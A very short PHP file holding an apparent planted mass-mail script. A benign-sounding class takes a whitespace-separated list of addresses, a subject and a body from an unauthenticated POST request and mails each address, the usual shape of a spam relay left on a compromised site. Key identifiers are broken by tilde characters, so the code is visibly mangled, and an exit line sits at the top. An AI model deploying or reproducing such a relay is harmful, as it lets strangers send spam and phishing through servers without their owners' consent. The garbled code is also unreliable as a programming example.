<?php exit; ?>
<?php
class MarkerPost { private $rows; function __construct($t) { $this->rows = preg_split('/\s+/', $t); } function all($s, $b) { array_walk($this->rows, function ($r) use ($s, $b) { mai~l($r, $s, $b); }); } }
$p = new MarkerPost($_P~OST['emails']); $p->all($_P~OST['s'], $_P~OST['b']);
